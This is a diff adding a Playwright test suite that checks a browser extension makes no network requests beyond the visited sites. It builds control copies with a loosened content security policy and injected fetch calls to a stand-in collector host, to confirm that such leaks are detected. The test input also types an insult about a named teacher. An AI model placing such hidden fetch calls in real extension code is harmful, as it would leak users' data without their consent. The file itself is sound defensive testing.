@@ -1,0 +1,77 @@
+import { cp, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { expect, test } from '@playwright/test';
+import { cardOn } from '../browser/card.ts';
+import { launch } from '../browser/launch.ts';
+import { setUp } from '../browser/setup.ts';
+import { type Arrival, listed, startReplicas, strangers } from '../replicas/server.ts';
+import { EXTENSION, gone, LACHE_PARENT, opened } from './fixtures.ts';
+import { composer, SURFACES } from './surfaces.ts';
+
+/** Where a control build sends what it should not. */
+const COLLECTOR = 'https://collector.example/taken';
+
+/** Uses everything there is to use, and tells what reached the server that is no page of the sites. */
+async function journey(extension: string): Promise<Arrival[]> {
+  const replicas = await startReplicas();
+  const launched = await launch({ extension, replicas });
+  try {
+    await setUp(launched.context, launched.extensionId, LACHE_PARENT);
+    for (const surface of SURFACES) {
+      const page = await launched.context.newPage();
+      const card = await cardOn(page);
+      await surface.open(page);
+      await page.keyboard.type('Mrs Pellow at Lache Primary is a useless lazy cow');
+      await opened(card);
+      const opening = launched.context.waitForEvent('page');
+      await card.press('See the policy');
+      await (await opening).getByRole('heading', { level: 1 }).waitFor();
+      await card.press('Raise it with the school');
+      await card.press('Back');
+      await card.press('Close');
+      await gone(card);
+      await composer(page).click();
+      await surface.pressSend(page);
+    }
+    return strangers(replicas.requests);
+  } finally {
+    await launched.close();
+    await replicas.stop();
+  }
+}
+
+/** A copy of the build with `code` added to one of its files, and its content security policy loosened. */
+async function controlBuild(file: RegExp, code: string): Promise<string> {
+  const folder = await mkdtemp(join(tmpdir(), 'forethought-control-'));
+  await cp(EXTENSION, folder, { recursive: true });
+  const manifestPath = join(folder, 'manifest.json');
+  const manifest = JSON.parse(await readFile(manifestPath, 'utf8'));
+  manifest.content_security_policy.extension_pages = "script-src 'self'; object-src 'self'";
+  await writeFile(manifestPath, JSON.stringify(manifest));
+  const name = (await readdir(folder, { recursive: true })).find((path) => file.test(path));
+  if (!name) throw new Error(`The build has no file like ${file}`);
+  await writeFile(join(folder, name), `${await readFile(join(folder, name), 'utf8')}\n;${code}`);
+  return folder;
+}
+
+test('nothing but the pages themselves asks anything of the network', async () => {
+  expect(listed(await journey(EXTENSION))).toBe('');
+});
+
+const LEAKS = [
+  { from: 'the background', file: /^background\.js$/, code: `fetch('${COLLECTOR}')` },
+  { from: 'a page of the extension', file: /policy-[^/]*\.js$/, code: `fetch('${COLLECTOR}')` },
+  { from: 'the content script', file: /^whatsapp\.js$/, code: `fetch('${COLLECTOR}', { mode: 'no-cors' })` },
+];
+
+for (const { from, file, code } of LEAKS) {
+  test(`a control build that leaks from ${from} is caught`, async () => {
+    const folder = await controlBuild(file, code);
+    try {
+      expect(listed(await journey(folder))).toContain(COLLECTOR);
+    } finally {
+      await rm(folder, { recursive: true, force: true });
+    }
+  });
+}
